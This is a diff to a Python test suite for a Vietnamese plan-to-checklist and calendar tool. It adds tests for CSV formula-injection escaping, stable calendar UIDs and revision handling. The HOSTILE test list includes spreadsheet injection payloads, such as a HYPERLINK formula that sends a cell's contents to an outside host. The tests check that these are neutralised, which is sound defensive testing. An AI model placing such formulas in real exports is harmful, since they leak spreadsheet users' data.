@@ -17,11 +17,16 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import io
+import os
 import re
+import subprocess
+import sys
 from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
+from hypothesis import given
+from hypothesis import strategies as st
 from icalendar import Calendar
 
 from conftest import MINIMAL_PLAN, PLAN_799, PLAN_THAI_NGUYEN, PLANS, open_docx, render_all, render_bytes
@@ -44,9 +49,11 @@ from kehoach.build import build
 from kehoach.documents import render_outputs
 from kehoach.cli import main
 from kehoach.derive.forms import criterion_text
-from kehoach.derive.tasks import task_rows
+from kehoach.derive.checklist import checklist_csv
+from kehoach.derive.tasks import TaskRow, task_rows
 from kehoach.errors import PlanError
 from kehoach.read import read_plan
+from test_robustness import quick
 
 KEY_799 = PLAN_799.relative_to(PLANS).with_suffix("").as_posix()
 KEY_THAI_NGUYEN = PLAN_THAI_NGUYEN.relative_to(PLANS).with_suffix("").as_posix()
@@ -462,6 +469,60 @@ def test_799_csv_dates_as_written():
     assert [r[header.index(CSV_DATE)] for r in body] == ["30/6/2020", "15/10/2020", "31/12/2020"]
 
 
+
+HOSTILE = ['=HYPERLINK("http://x.vn/?q="&A1,"Bấm")', "+84 912 345 678", "-1+2", "@SUM(A1:A9)",
+           "  =1+1", "\t=1", "\r\n@A1"]  # a plan's text is read without its outer spaces and line breaks
+
+
+def hostile_plan() -> str:
+    """Each hostile text as an owner, a summary, a partner, a product and report_to."""
+    items = ""
+    for index, text in enumerate(HOSTILE):
+        quoted = '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r") + '"'
+        items += task_item(f"viec-{index}", f"{{owner: {quoted}, summary: {quoted}, partners: [{quoted}], "
+                                             f"product: {quoted}, report_to: {quoted}, due: 2020-06-{10 + index}}}")
+    return plan_text(items)
+
+
+def test_csv_cells_that_would_start_a_formula_get_a_single_quote_and_nothing_else_changes(tmp_path):
+    data = outputs_of(tmp_path, hostile_plan())[".checklist.csv"]
+    header, *body = csv_rows(data)
+    columns = [header.index(name) for name in (CSV_WORDING, CSV_OWNER, "Phối hợp", "Sản phẩm", "Gửi báo cáo")]
+    assert [[row[c] for c in columns] for row in body] == [["'" + text.strip()] * 5 for text in HOSTILE]
+    assert [row[header.index(CSV_DATE)] for row in body] == [f"{10 + i}/6/2020" for i in range(len(HOSTILE))]
+    # every cell is quoted, so a separator or a quote inside a text never starts a new cell
+    text = data.decode("utf-8-sig")
+    assert text.startswith('"STT","Nội dung nhiệm vụ"')
+    assert '\r\n"1","\'=HYPERLINK(""http://x.vn/?q=""&A1,""Bấm"")"' in text
+
+
+def test_csv_keeps_ordinary_texts_exactly_as_typed():
+    header, *body = csv_rows(render_all(PLAN_799)[".checklist.csv"])
+    rows = task_rows(read_plan(PLAN_799))
+    assert [r[header.index(CSV_WORDING)] for r in body] == [row.wording for row in rows]
+    assert not any(cell.startswith("'") for row in body for cell in row)
+
+
+
+FORMULA = ("=", "+", "-", "@", "\t", "\r")
+CELL_TEXT = st.text(st.sampled_from("=+-@\t\r\n ,;\"'aăĐ1/"), max_size=8) | st.text(max_size=12)
+
+
+@quick(200)
+@given(texts=st.lists(st.tuples(CELL_TEXT, CELL_TEXT, CELL_TEXT, CELL_TEXT), min_size=1, max_size=4))
+def test_no_csv_cell_starts_a_formula_and_each_reads_as_typed_after_its_quote(texts):
+    rows = [TaskRow(item_id="x", where="I.1", wording=wording, owner=owner, partners=(partner,), due=None,
+                    report_to=report, product=None) for wording, owner, partner, report in texts]
+    header, *body = csv_rows(checklist_csv(rows))
+    assert len(body) == len(rows)
+    for row, typed in zip(body, texts):
+        read = [row[header.index(name)] for name in (CSV_WORDING, CSV_OWNER, "Phối hợp", "Gửi báo cáo")]
+        for cell, text in zip(read, typed):
+            dangerous = text.lstrip(" ").startswith(FORMULA)
+            assert cell == ("'" + text if dangerous else text)
+            assert not cell.lstrip(" ").startswith(FORMULA)
+
+
 # ------------------------------------------------------------------ per-owner checklists
 
 OWNER_A, SLUG_A = "Phòng Tổ chức cán bộ", "phong-to-chuc-can-bo"
@@ -736,6 +797,73 @@ def test_draft_plan_calendar_has_five_yearly_events():
     assert [e.decoded("dtstart") for e in found] == [dt.date(year, 12, 31) for year in range(2021, 2026)]
     assert len({str(e["uid"]) for e in found}) == 5
     assert all(str(e["summary"]).startswith("Hạn: Báo cáo hằng năm") for e in found)
+
+
+
+def uids(ics: bytes) -> list[str]:
+    return [str(event["uid"]) for event in events(ics)]
+
+
+def test_calendar_uids_name_the_plan_the_duty_and_the_period_never_the_date():
+    assert uids(render_all(PLAN_799)[".ics"]) == [
+        "so-y-te-ha-tinh/2020/799-kh-syt/xay-dung-ke-hoach-don-vi/6-thang-dau-nam-2020@kehoach",
+        "so-y-te-ha-tinh/2020/799-kh-syt/bao-cao-ket-qua@kehoach",
+        "so-y-te-ha-tinh/2020/799-kh-syt/xay-dung-ke-hoach-don-vi/nam-2020@kehoach",
+    ]
+
+
+def test_moving_a_one_off_deadline_keeps_its_uid_and_moves_the_event(tmp_path):
+    """Before: the date was part of the UID, so a re-imported revision added a second event."""
+    original = PLAN_799.read_text(encoding="utf-8")
+    assert original.count("due: 2020-10-15") == 1
+    before = events(render_all(PLAN_799)[".ics"])
+    after = events(outputs_of(tmp_path, original.replace("due: 2020-10-15", "due: 2020-11-20"), KEY_799)[".ics"])
+    assert [str(e["uid"]) for e in after] == [str(e["uid"]) for e in before]
+    moved = {str(e["uid"]): e.decoded("dtstart") for e in after}
+    assert moved["so-y-te-ha-tinh/2020/799-kh-syt/bao-cao-ket-qua@kehoach"] == dt.date(2020, 11, 20)
+
+
+def test_moving_the_day_of_a_recurring_duty_keeps_each_occurrences_uid(tmp_path):
+    quarterly = plan_text(task_item("bao-cao-quy", "{owner: Văn phòng Sở, repeat: quarterly}"))
+    moved = quarterly.replace("repeat: quarterly", "repeat: {every: quarterly, day: 20}")
+    before, after = (events(outputs_of(tmp_path, text)[".ics"]) for text in (quarterly, moved))
+    assert [str(e["uid"]) for e in after] == [str(e["uid"]) for e in before] == [
+        f"plan/bao-cao-quy/quy-{quarter}-2020@kehoach" for quarter in ("i", "ii", "iii", "iv")]
+    assert [e.decoded("dtstart").day for e in after] == [20, 20, 20, 20]
+
+
+def test_sequence_is_the_plans_revision_and_dtstamp_its_date(tmp_path):
+    """A revision re-imported updates the events: same UID, higher SEQUENCE; nothing depends on the clock."""
+    text = plan_text(task_item("tong-ket", "{owner: Văn phòng Sở, due: 2020-11-30}"))
+    first = events(outputs_of(tmp_path, text)[".ics"])
+    revised = events(outputs_of(tmp_path, text.replace("date: 2020-01-07\n", "date: 2020-01-07\nrevision: 2\n")
+                                .replace("due: 2020-11-30", "due: 2020-12-10"))[".ics"])
+    assert [int(e["sequence"]) for e in first] == [0]
+    assert [int(e["sequence"]) for e in revised] == [2]
+    assert [str(e["uid"]) for e in revised] == [str(e["uid"]) for e in first]
+    assert {e.decoded("dtstamp") for e in first + revised} == {dt.datetime(2020, 1, 7, tzinfo=dt.timezone.utc)}
+
+
+def test_the_calendar_is_the_same_bytes_whatever_the_clock_and_time_zone(tmp_path):
+    script = ("import sys; from pathlib import Path; from kehoach.read import read_plan; "
+              "from kehoach.documents import render_outputs; "
+              "sys.stdout.buffer.write(render_outputs(read_plan(Path(sys.argv[1])), 'k')['.ics'])")
+    runs = {subprocess.run([sys.executable, "-c", script, str(PLAN_799)], env={**os.environ, "TZ": zone},
+                           capture_output=True, check=True).stdout
+            for zone in ("UTC", "Asia/Ho_Chi_Minh", "America/Los_Angeles")}
+    assert len(runs) == 1
+
+
+@pytest.mark.parametrize("value, message", [
+    ("0", 'cần số nguyên dương, nhận được số nguyên "0"'),
+    ("hai", "cần số nguyên dương"),
+])
+def test_a_revision_that_is_not_a_positive_integer_is_reported_at_its_place(tmp_path, value, message):
+    text = plan_text(MINIMAL_ITEMS).replace("date: 2020-01-07\n", f"date: 2020-01-07\nrevision: {value}\n")
+    found = problems_of(tmp_path, text)
+    line = at(text, "revision:").split(":")[0]
+    assert len(found) == 1 and found[0].startswith(f"plan.yaml:{line}:11: "), found
+    assert message in found[0]
 
 
 # ------------------------------------------------------------------ validation
